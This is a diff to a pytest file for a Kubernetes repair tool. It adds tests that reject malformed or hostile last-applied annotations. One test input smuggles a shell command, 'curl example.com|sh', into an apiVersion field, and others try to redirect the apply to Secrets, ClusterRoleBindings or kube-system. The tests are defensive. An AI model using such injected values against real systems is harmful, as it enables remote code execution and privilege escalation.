@@ -58,10 +58,39 @@ async def test_what_kubectl_applied_last_is_applied_again_in_its_own_version() -
     assert found.repair == words
 
 
-@pytest.mark.parametrize("text", ["{", "[]", json.dumps({"spec": {}}), json.dumps({"spec": []})])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "{",
+        "[]",
+        "[" * 100_000,
+        *(json.dumps({**WHOLE, "spec": spec}) for spec in ({}, [], {"components": 5}, {"services": 5}, {"components": [{"name": [1]}]})),
+    ],
+)
 async def test_an_annotation_that_holds_no_graph_is_no_repair(text: str) -> None:
     [found] = await _found({}, {APPLIED: text})
     assert found.repair == ""
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"apiVersion": "nvidia.com/v1;curl example.com|sh;"},
+        {"apiVersion": "rbac.authorization.k8s.io/v1beta1"},
+        {"apiVersion": ["v1beta1"]},
+        {"kind": "ClusterRoleBinding"},
+        {"items": [{"apiVersion": "v1", "kind": "Secret"}]},
+        {"metadata": {"name": "other", "namespace": "n"}},
+        {"metadata": {"name": "g", "namespace": "kube-system"}},
+        {"metadata": "g"},
+    ],
+)
+async def test_what_its_author_wrote_into_the_annotation_is_no_command_and_no_other_object(change: Node) -> None:
+    """An administrator runs the repair with all permissions: kubectl would apply whatever the annotation holds."""
+    [found] = await _found({}, {APPLIED: json.dumps({**WHOLE, **change})})
+    assert found.repair == ""
+    [ours] = await _found({}, {APPLIED: json.dumps({**WHOLE, "metadata": {"name": "g", "namespace": "n"}})})
+    assert "view-last-applied" in ours.repair
 
 
 async def test_children_say_what_an_empty_graph_was() -> None:
@@ -81,6 +110,16 @@ async def test_who_wrote_it_is_named() -> None:
     await cluster.create(GRAPHS, {**WHOLE, "apiVersion": "nvidia.com/v1alpha1", "metadata": {"name": "g", "namespace": "n"}, "spec": {}})
     [found] = await emptied(cluster, sight())
     assert "apply it again from where it came (written by pipeline)" in found.text
+
+
+async def test_a_writer_without_a_name_is_not_named() -> None:
+    """As one that sends no User-Agent."""
+    cluster = MemoryCluster("")
+    await cluster.create(GRAPHS, {**WHOLE, "apiVersion": "nvidia.com/v1alpha1", "metadata": {"name": "g", "namespace": "n"}, "spec": {}})
+    for record in cluster.storage.records.values():
+        record.obj["metadata"]["managedFields"] = [{"operation": "Update", "apiVersion": "nvidia.com/v1alpha1"}]
+    [found] = await emptied(cluster, sight())
+    assert "apply it again from where it came, or restore it" in found.text
 
 
 async def test_what_may_not_be_listed_is_a_warning() -> None:
